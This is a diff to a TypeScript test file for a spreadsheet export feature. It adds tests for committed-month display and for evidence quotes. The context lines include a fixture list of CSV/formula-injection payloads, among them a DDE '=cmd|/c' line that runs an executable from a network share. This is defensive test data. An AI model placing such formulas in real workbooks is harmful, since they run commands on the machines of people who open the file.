@@ -10,7 +10,7 @@ import { contrast } from '../palette.ts';
 import { officeProblems } from '../validate-office.fixture.ts';
 import { exampleSource } from './example-blueprint.fixture.ts';
 import { exportSheets } from './export-sheets.ts';
-import { CALCULATION, FIRST_ROW, INPUT, OPPORTUNITY, RANKING, SCORING, SHEET } from './layout.ts';
+import { CALCULATION, FIRST_ROW, INITIATIVE, INPUT, OPPORTUNITY, RANKING, SCORING, SHEET } from './layout.ts';
 import { formulasOf, read, sheetOf } from './read-workbook.fixture.ts';
 import { FIGURE_ROW } from './summary-figures.ts';
 
@@ -157,6 +157,34 @@ describe('the workbook', () => {
     for (const [title, wave] of planned) expect(found.get(title ?? '')).toBe(wave);
   });
 
+  it('says of each initiative the months that were committed, where it has been moved since', async () => {
+    const source = exampleClient();
+    const [first, ...others] = source.plan?.initiatives ?? [];
+    if (!first || !source.plan) throw new Error('No plan');
+    const baseline = {
+      ...first,
+      startMonth: '2025-12',
+      endMonth: '2026-02',
+      monthlyVolume: null,
+      targets: {},
+      frozenAt: '2025-11-03T08:00:00.000Z',
+      frozenBy: 'Ada Tester',
+    };
+    const plan = {
+      ...source.plan,
+      initiatives: [
+        { ...first, baseline },
+        ...others.map((one) => ({
+          ...one,
+          baseline: { ...baseline, startMonth: one.startMonth, endMonth: one.endMonth },
+        })),
+      ],
+    };
+    const sheet = sheetOf(await read(await exportSheets(buildBlueprint({ ...source, plan }))), SHEET.initiatives);
+    const committed = plan.initiatives.map((_, at) => sheet.getCell(`${INITIATIVE.committed}${FIRST_ROW + at}`).text);
+    expect(committed).toEqual(['Dec 2025 to Feb 2026', ...others.map(() => '–')]);
+  });
+
   it('cuts what no cell can hold, and says so in place and on Checks', async () => {
     const source = exampleSource();
     const endless = '😀'.repeat(20_000);
@@ -198,6 +226,19 @@ const OURS = [
   '=HYPERLINK("http://test.invalid","Open")',
   "=cmd|'/c test.exe \\\\192.0.2.1\\x,0'!_xlbgnm.B2",
 ];
+
+it('says beside an opportunity what documents say of its process', async () => {
+  const source = exampleClient();
+  const process = source.processes.find(({ opportunities }) => opportunities.length > 0);
+  const said = { fileName: 'report.pdf', page: 3, quote: '28 % of notices are incomplete.' };
+  const evidence = new Map([[process?.id ?? '', [said]]]);
+  const workbook = await read(await exportSheets(buildBlueprint({ ...source, evidence })));
+  const words: string[] = [];
+  sheetOf(workbook, SHEET.opportunities).eachRow((row) => words.push(row.getCell(OPPORTUNITY.rationale).text));
+  expect(words.filter((text) => text.includes('“28 % of notices are incomplete.”, report.pdf, p. 3'))).toHaveLength(
+    process?.opportunities.length ?? 0,
+  );
+});
 
 describe('hostile text', () => {
   it.each([
